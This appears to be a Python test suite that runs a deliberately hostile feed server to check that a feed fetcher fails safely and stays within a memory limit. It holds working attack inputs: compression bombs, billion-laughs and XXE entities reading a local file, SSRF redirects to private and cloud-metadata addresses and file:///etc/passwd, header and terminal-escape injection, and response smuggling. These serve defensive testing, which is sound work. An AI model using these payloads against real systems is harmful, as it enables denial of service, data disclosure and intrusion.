"""What the worst server can do: its own feed is reported as broken, and every other one is delivered, once."""
import gzip
import os
import shutil
import socket
import struct
import subprocess
import threading
import zlib

import harness
from harness import Case, items, rss

MEMORY = 128 << 20  # resident, of all processes together, shared pages counted in each
ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><title>%s</title><id>urn:f</id>%s</feed>'


def entry(i, title='Bad', body='Text', extra=''):
    return ('<entry><title>%s %s</title><id>urn:bad:%s</id><updated>2024-05-01T00:00:00Z</updated>%s'
            '<content type="html">%s</content></entry>' % (title, i, i, extra, body))


def atom(*entries, title='F', before=''):
    return ('<?xml version="1.0"?>' + before + ATOM % (title, ''.join(entries))).encode('utf-8', 'surrogateescape')


def raw(head, *body):
    """An answer written as it stands, then the end of the connection."""
    def page(handler):
        handler.close_connection = True
        handler.wfile.write(head)
        for piece in body:
            handler.wfile.write(piece)
    return page


def endless(head, piece):
    def page(handler):
        handler.close_connection = True
        handler.wfile.write(head)
        for _ in range(1 << 30 >> len(piece).bit_length()):
            handler.wfile.write(piece)
        raise AssertionError('a gigabyte was taken')
    return page


def packed(encoding, body):
    return lambda handler: handler.answer(200, body, {'Content-Encoding': encoding})


def bomb(n, wrap=lambda deflated, crc, length: deflated):
    """n MiB of spaces, deflated: compressed once and repeated, for speed."""
    c = zlib.compressobj(9, zlib.DEFLATED, 15)
    return c.compress(atom()[:-7] + b'<entry><title>') + b''.join(c.compress(b' ' * (1 << 20)) for _ in range(n)) + c.flush()


def compressed_by(program, body):
    path = shutil.which(program)
    return subprocess.run([path, '-c'], input=body, stdout=subprocess.PIPE, check=True).stdout if path else None


OK = b'HTTP/1.1 200 OK\r\nConnection: close\r\n'
CHUNKED = OK + b'Transfer-Encoding: chunked\r\n\r\n'
LAUGHS = '<!DOCTYPE feed [<!ENTITY l0 "lol">%s]>' % ''.join(
    '<!ENTITY l%d "%s">' % (i, '&l%d;' % (i - 1) * 10) for i in range(1, 12))
BIG = 12 << 20

# Each of these fails, with the reason in the log (a part of it).
FAILING = {
    'endless-text': (endless(OK + b'\r\n<rss><channel><title>', b'x' * 65536), 'over 16 MiB'),
    'endless-blanks': (endless(OK + b'\r\n', b' ' * 65536), 'over 16 MiB'),
    'endless-header': (endless(OK + b'X-A: ', b'a' * 65536), 'header'),
    'endless-headers': (endless(OK, b'X-A: b\r\n' * 1000), 'headers'),
    'endless-fold': (endless(OK + b'X-A: b\r\n', b' c\r\n' * 1000), 'header'),
    'endless-interim': (endless(b'', b'HTTP/1.1 100 Continue\r\n\r\n' * 100), 'headers'),
    'endless-status': (endless(b'HTTP/1.1 200 ', b'OK' * 5000), ''),
    'endless-trailer': (endless(CHUNKED + b'5\r\n<rss>\r\n0\r\n', b'X-A: b\r\n' * 1000), 'headers'),
    'endless-extension': (endless(CHUNKED + b'5', b';a=b' * 10000), 'without end'),
    'length-too-long': (raw(OK + b'Content-Length: 100000\r\n\r\n', atom(entry(1))), 'cut short'),
    'length-huge': (raw(OK + b'Content-Length: 9223372036854775807\r\n\r\n', atom(entry(1))), 'over 16 MiB'),
    'length-beyond': (raw(OK + b'Content-Length: 1180591620717411303424\r\n\r\n', atom(entry(1))), 'over 16 MiB'),
    'length-negative': (raw(OK + b'Content-Length: -5\r\n\r\n', atom(entry(1))), ''),
    'chunk-bad': (raw(CHUNKED + b'5\r\n<?xml\r\n-4\r\nzz\r\n'), ''),
    'chunk-huge': (raw(CHUNKED + b'ffffffffffffffff\r\n<rss>'), ''),
    'chunk-cut': (raw(CHUNKED + b'100000\r\n', atom(entry(1))), 'cut short'),
    'chunk-zeros': (endless(CHUNKED, b'0' * 65536), ''),
    'deflate-nothing': (endless(OK + b'Content-Encoding: deflate\r\n\r\n\x78\x9c', b'\0\0\0\xff\xff' * 13000), 'without end'),
    'gzip-name': (endless(OK + b'Content-Encoding: gzip\r\n\r\n\x1f\x8b\x08\x08' + bytes(6), b'n' * 65536), 'without end'),
    'encoding-unknown': (packed('rot13', atom(entry(1))), 'badly compressed'),
    'encodings': (packed(', '.join(['gzip'] * 20), gzip.compress(b'x')), 'badly compressed'),
    'closed': (raw(b''), 'without an answer'),
    'use-proxy': (raw(b'HTTP/1.1 305 Use Proxy\r\nLocation: http://10.0.0.1/\r\nContent-Length: 0\r\n\r\n'), '305'),
    'redirect-two': (raw(b'HTTP/1.1 302 Found\r\nLocation: /good0\r\nLocation: http://10.0.0.1/\r\nContent-Length: 0\r\n\r\n'),
                     'a private address'),
    'opml': (b'<opml version="2.0"><body><outline xmlUrl="http://10.0.0.1/"/></body></opml>', 'OPML'),
    'no-http': (raw(atom(entry(1))), 'not answer in HTTP'),
    'status-0': (raw(b'HTTP/1.1 000 \r\nContent-Length: 0\r\n\r\n'), 'not answer in HTTP'),
    'status-999': (raw(b'HTTP/1.1 999 \x1b[31m\r\nContent-Length: 0\r\n\r\n'), '999'),
    'retry-absurd': (raw(b'HTTP/1.1 503 Busy\r\nRetry-After: 99999999999999999999\r\nContent-Length: 0\r\n\r\n'), '503'),
    'retry-negative': (raw(b'HTTP/1.1 429 Busy\r\nRetry-After: -1\r\nContent-Length: 0\r\n\r\n'), '429'),
    'not-gzip': (packed('gzip', atom(entry(1))), 'badly compressed'),
    'bomb-deflate': (packed('deflate', bomb(60)), 'expands to over 100 times'),
    'bomb-gzip-gzip': (packed('gzip, gzip', gzip.compress(gzip.compress(b' ' * (60 << 20), 9), 9)), 'over'),
    'redirect-self': (lambda h: redirect(h, h.path), 'loop'),
    'redirect-on': (lambda h: redirect(h, h.path + 'x'), ''),
    'redirect-private': (lambda h: redirect(h, 'http://10.0.0.1/'), 'a private address'),
    'redirect-metadata': (lambda h: redirect(h, 'http://169.254.169.254/latest'), 'a link-local address'),
    'redirect-mapped': (lambda h: redirect(h, 'http://[::ffff:10.0.0.1]/'), 'a private address'),
    'redirect-number': (lambda h: redirect(h, 'http://167772161/'), ''),
    'redirect-userinfo': (lambda h: redirect(h, 'http://127.0.0.1\\@10.0.0.1/'), ''),
    'redirect-multicast': (lambda h: redirect(h, 'http://224.0.0.1/'), "no host's address"),
    'redirect-file': (lambda h: redirect(h, 'file:///etc/passwd'), 'not http'),
    'redirect-gopher': (lambda h: redirect(h, 'gopher://127.0.0.1:70/_x'), 'not http'),
    'redirect-long': (lambda h: redirect(h, '/' + 'x' * 60000), ''),
    'redirect-nowhere': (raw(b'HTTP/1.1 302 Found\r\nContent-Length: 0\r\n\r\n'), 'without a Location'),
    'empty': (b'', 'empty document'),
    'page': ('<!DOCTYPE html><title>\x1b]0;pwned\x07\x1b[31mHi\u202e</title>'.encode(), 'HTML'),
    'noise': (bytes(range(256)) * 4000, ''),
    'json-depth': (b'{"version":"https://jsonfeed.org/version/1.1","items":' + b'[' * BIG, ''),
}



def byte_by_byte(handler):
    """A chunk for each byte."""
    handler.wfile.write(CHUNKED + b''.join(b'1\r\n%c\r\n' % c for c in atom(entry(1))) + b'0\r\n\r\n')
    handler.close_connection = True


def two_answers(handler):
    """The second is to be taken for the answer to the next question on this connection."""
    for text in (atom(entry(1)), atom(entry(2, 'FORGED'))):
        handler.wfile.write(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n' % len(text) + text)


# These may bring something or not; nothing else may come of them.
STRANGE = {
    'byte-by-byte': byte_by_byte,
    'two-answers': two_answers,
    'namespaces': b'<feed xmlns="http://www.w3.org/2005/Atom" ' + b' '.join(b'xmlns:n%d="u%d"' % (i, i) for i in range(100000)) + b'>',
    'base': atom(*[entry(i, body='&lt;a href=x&gt;' * 300) for i in range(50)]).replace(
        b'<feed ', b'<feed xml:base="http://e.example/' + b'a/' * 3500 + b'" '),
    'entity-name': atom(entry(1, '&' + 'x' * BIG + ';')),
    'combining': atom(entry(1, 'a' + '\u0301' * 1000000, body='\U0001f468\u200d' * 300000)),
    'json-values': b'{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[' + b'{},' * (BIG // 3) + b'{}]}',
    'json-numbers': b'{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","x":[' + b'0,' * (BIG // 2) + b'0]}]}',
    'json-names': b'{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","x":{'
                  + b','.join(b'"k%d":1' % i for i in range(700000)) + b'}}]}',
    'json-ids': ('{"version":"https://jsonfeed.org/version/1.1","title":"../x","items":[%s]}' % ','.join(
        '{"id":"%s","url":"%s","title":"%s","content_text":"x","tags":["%s"]}' % (t, t, t, t)
        for t in ('../../x', '/etc/x', '..', 'a\\r\\nBcc: x', '\\u001b]0;x\\u0007', '\\u202e'))).encode(),
    'laughs': atom(entry(1, '&l11;'), before=LAUGHS),
    'quadratic': atom(entry(1, body='&x;' * 20000), before='<!DOCTYPE feed [<!ENTITY x "%s">]>' % ('A' * 50000)),
    'recursive': atom(entry(1, '&x;'), before='<!DOCTYPE feed [<!ENTITY x "&y;"><!ENTITY y "&x;">]>'),
    'doctype': atom(entry(1), before='<!DOCTYPE feed [%s]>' % ''.join('<!ENTITY e%d "x">' % i for i in range(200000))),
    'depth': b'<feed xmlns="http://www.w3.org/2005/Atom">' + b'<a>' * (BIG // 3),
    'depth-html': atom(entry(1, body='&lt;div&gt;' * 500000)),
    'depth-list': atom(entry(1, body='&lt;ul&gt;&lt;li&gt;' * 100000 + 'x')),
    'attributes': b'<feed xmlns="http://www.w3.org/2005/Atom" ' + b' '.join(b'a%d="x"' % i for i in range(700000)) + b'>',
    'attribute': atom(entry(1, extra='<link href="http://e.example/%s"/>' % ('x' * BIG))),
    'title': atom(entry(1, 'x' * BIG)),
    'words': atom(entry(1, body='word ' * (BIG // 5))),
    'entries': b'<rss version="2.0"><channel>' + b'<item><title>x' * (BIG // 14),
    'empties': b'<rss version="2.0"><channel>' + b'<item/>' * (BIG // 7),
    'angles': b'<rss version="2.0"><channel>' + b'<' * BIG,
    'ampersands': b'<rss version="2.0"><channel><item><title>' + b'&' * BIG,
    'comment': b'<?xml version="1.0"?><!--' + b'y-' * (BIG // 2) + b'-->' + atom(entry(1)),
    'bytes': atom(entry(1)).replace(b'Text', b'\xc0\xaf \xed\xa0\x80 \xf8\x88\x80\x80\x80 \xff\xfe \xe2\x82'),
    'zeros': b'\0'.join(bytes([c]) for c in atom(entry(1))),
    'charset': atom(entry(1)).replace(b'1.0"?', b'1.0" encoding="%s"?' % (b'x' * 100000)),
    'links': atom(entry(1, body=''.join('&lt;a href=http://e.example/%d&gt;x&lt;/a&gt;' % i for i in range(30000)))),
    'same-id': atom(*[entry(1, 'v%d' % i) for i in range(1000)]),
    'dates': atom(*[entry(i).replace('2024-05-01T00:00:00Z', d) for i, d in enumerate(
        ['99999999-01-01T00:00:00Z', '-0001-01-01', '2024-05-01T00:00:00+99:99', '9' * 100000])]),
    'wishes': b'<rss version="2.0"><channel><title>x</title><ttl>99999999999999999999</ttl><skipHours>'
              + b'<hour>99</hour>' * 10000 + b'</skipHours><item><title>t</title></item></channel></rss>',
    'etag': raw(OK + b'ETag: "' + b'e' * 60000 + b'"\r\n\r\n', atom(entry(1))),
    'cache': raw(OK + b'Cache-Control: max-age=99999999999999999999\r\nExpires: Thu, 01 Jan 99999 00:00:00 GMT\r\n\r\n',
                 atom(entry(1))),
}


def redirect(handler, to):
    handler.send_response_only(302)
    handler.send_header('Location', to)
    handler.send_header('Content-Length', '0')
    handler.end_headers()


def resident(pid):
    """Bytes of a process and all below it."""
    try:
        with open('/proc/%d/statm' % pid) as f:
            n = int(f.read().split()[1]) * os.sysconf('SC_PAGE_SIZE')
        return n + sum(resident(int(c)) for c in harness.workers(pid))
    except (OSError, IndexError):
        return 0


class Run(Case):
    """A run whose memory is watched."""

    def watched(self, *args):
        process = self.start('once', '-c', self.config, *(args or ('--all',)))
        done, peak = threading.Event(), [0]

        def watch():
            while not done.wait(0.01):
                peak[0] = max(peak[0], resident(process.pid))
        thread = threading.Thread(target=watch)
        thread.start()
        out, err = process.communicate(timeout=180)
        done.set()
        thread.join()
        return process.returncode, out, err, peak[0]

    def serve(self, pages):
        """A feed for each page and three healthy ones between them; returns what these bring."""
        text = ''
        for i, (name, page) in enumerate(pages.items()):
            self.server.pages['/' + name] = page
            text += '[feed:%s]\nurl = @URL@/%s\nfolder = Bad\n' % (name, name)
            if i % (len(pages) // 3) == 0:
                self.server.pages['/good%d' % i] = rss(items(3, title='Good %d item' % i))
                text += '[feed:good%d]\nurl = @URL@/good%d\n' % (i, i)
        for depth in range(1, 8):
            self.server.pages['/redirect-on' + 'x' * depth] = pages.get('redirect-on')
        self.configure(text, 'first-poll = all')
        return ['Good %d item %d' % (i, k) for i in range(len(pages)) if '/good%d' % i in self.server.pages
                for k in (1, 2, 3)]

    def assert_clean(self, text):
        """Nothing that a terminal would obey, or that would hide what stands beside it."""
        bad = [c for c in text if (ord(c) < 32 and c not in '\n\t') or 0x7f <= ord(c) < 0xa0
               or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069 or ord(c) == 0x200b]
        self.assertEqual(bad, [])

    def assert_memory(self, peak):
        if 'san-' not in harness.PROGRAM:  # a sanitizer needs several times as much
            self.assertLess(peak, MEMORY)


class Answers(Run):
    def test_each_bad_answer_fails_alone_and_says_why(self):
        pages = {name: page for name, (page, _) in FAILING.items()}
        for program, encoding in (('brotli', 'br'), ('zstd', 'zstd')):
            body = compressed_by(program, atom()[:-7] + b' ' * (60 << 20))
            if body:
                pages['bomb-' + encoding] = packed(encoding, body)
        good = self.serve(pages)
        code, out, err, peak = self.watched()
        self.assertEqual(code, 1, err)
        self.assert_exactly_once(good)
        self.assertEqual([m.as_string() for m in self.messages('Bad')], [])
        for name in pages:
            line = [l for l in err.splitlines() if 'feed=%s ' % name in l and 'url=%s/%s' % (self.server.url, name) in l]
            self.assertEqual(len(line), 1, '%s: %s' % (name, err))
            self.assertIn(FAILING.get(name, (0, 'over'))[1], line[0])
        self.assert_clean(out + err)
        self.assert_memory(peak)
        self.once(check=1)
        self.assert_exactly_once(good)

    def test_strange_documents_harm_nobody(self):
        good = self.serve(STRANGE)
        code, out, err, peak = self.watched('-v', '--all')
        self.assertIn(code, (0, 1), err)
        self.assert_exactly_once(good)
        self.assert_clean(out + err)
        self.assert_memory(peak)
        for m in self.messages('Bad'):
            text = m.as_string()
            self.assertNotIn('lol' * 100, text)
            self.assertNotIn('\nBcc:', text)
            self.assertLess(len(text), 4 << 20)
        self.assertNotIn('FORGED', ''.join(self.subjects()))
        before = self.files()
        self.once(check=None)
        self.assertEqual(self.files(), before)

    def test_a_kept_connection_that_dies_is_nobodys_failure(self):
        """The server takes one question on each connection, and lets the second die: by an end, by a reset."""
        asked = {}

        def page(handler):
            n = asked[handler.connection] = asked.get(handler.connection, 0) + 1
            if n == 1:
                handler.feed(rss(items(1, title='Item ' + handler.path[1:])))
                return
            handler.close_connection = True
            if handler.path in ('/2', '/3', '/4'):
                handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
                handler.connection.close()
        for i in range(6):
            self.server.pages['/%d' % i] = page
        self.configure(''.join('[feed:f%d]\nurl = @URL@/%d\nhost-connections = 1\n' % (i, i) for i in range(6)))
        self.once()
        self.assert_exactly_once(['Item %d 1' % i for i in range(6)])
        self.assertGreater(max(asked.values()), 1)


class Cuts(Run):
    """A document that ends on its way, while nothing says so: what was behind comes with the next poll."""
    ITEMS = [entry(i, body=str(i ** 9)) for i in range(40)]
    JSON = ('{"version":"https://jsonfeed.org/version/1.1","items":[%s]}' % ','.join(
        '{"id":"%d","title":"Bad %d","content_text":"%d"}' % (i, i, i ** 9) for i in range(40))).encode()

    def cut_once(self, first, whole, encoding='identity'):
        head = OK + b'ETag: "same"\r\nContent-Encoding: ' + encoding.encode() + b'\r\n\r\n'
        asked = []

        def page(handler):
            asked.append(handler.headers.get('If-None-Match'))
            if asked[-1]:
                handler.answer(304, b'')
            else:
                raw(head, first if len(asked) == 1 else whole)(handler)
        return page, asked

    def test_what_was_cut_off_is_not_lost(self):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        whole = atom(*self.ITEMS)
        half = packer.compress(whole[:len(whole) // 2]) + packer.flush(zlib.Z_SYNC_FLUSH)
        item = whole.index(b'<id>urn:bad:20')
        cuts = {'plain': self.cut_once(whole[:len(whole) // 2], whole),
                'before-id': self.cut_once(whole[:item], whole), 'in-id': self.cut_once(whole[:item + 12], whole),
                'in-title': self.cut_once(whole[:item - 12], whole),
                'gzip': self.cut_once(half, gzip.compress(whole), 'gzip'),
                'json': self.cut_once(self.JSON[:len(self.JSON) // 2], self.JSON)}
        self.server.pages.update({'/' + name: page for name, (page, _) in cuts.items()})
        self.server.pages['/part'] = lambda handler: handler.answer(206, whole, {'ETag': '"part"'})
        self.configure(''.join('[feed:%s]\nurl = @URL@/%s\nfolder = %s\n' % (n, n, n) for n in [*cuts, 'part']),
                       'first-poll = all\nupdates = ignore')
        for _ in range(3):
            self.once()
        for name, (_, asked) in cuts.items():
            self.assertEqual(self.subjects(name), sorted('Bad %d' % i for i in range(40)), name)
            self.assertEqual(asked, [None, None, '"same"'], name)
        self.assertEqual([h.get('If-None-Match') for p, h in self.server.requests if p == '/part'], [None, None, '"part"'])


class Secrets(Run):
    DECLARATIONS = {
        'file': '<!DOCTYPE feed [<!ENTITY x SYSTEM "file://@FILE@">]>',
        'http': '<!DOCTYPE feed [<!ENTITY x SYSTEM "@URL@/canary">]>',
        'dtd': '<!DOCTYPE feed SYSTEM "@URL@/canary">',
        'public': '<!DOCTYPE feed PUBLIC "-//X" "@URL@/canary" [<!ENTITY % p SYSTEM "@URL@/canary">%p;]>',
        'parameter': '<!DOCTYPE feed [<!ENTITY % f SYSTEM "file://@FILE@"><!ENTITY % e '
                     '"<!ENTITY x SYSTEM \'@URL@/canary?%f;\'>">%e;]>',
        'sheet': '<?xml-stylesheet type="text/xsl" href="@URL@/canary"?>',
    }

    def test_no_document_reads_a_file_or_makes_a_request(self):
        path = os.path.join(self.dir, 'secret')
        with open(path, 'w') as f:
            f.write('CANARY')
        include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="%s" parse="text"/>'
        pages = {'included-file': atom(entry(1, include % ('file://' + path), include % ('file://' + path))),
                 'included-url': atom(entry(1, include % (self.server.url + '/canary'))),
                 'elsewhere': atom(entry(1).replace('<content type="html">', '<content src="%s/canary">' % self.server.url))}
        for name, text in self.DECLARATIONS.items():
            text = text.replace('@FILE@', path).replace('@URL@', self.server.url)
            pages[name] = atom(entry(1, '&x;', '&x;'), before=text)
        self.server.pages['/canary'] = b'CANARY'
        good = self.serve(pages)
        self.once(check=None)
        self.assert_exactly_once(good)
        self.assertEqual([p for p, _ in self.server.requests if p.startswith('/canary')], [])
        for m in self.messages('Bad'):
            self.assertNotIn('CANARY', m.as_string())


if __name__ == '__main__':
    harness.main()
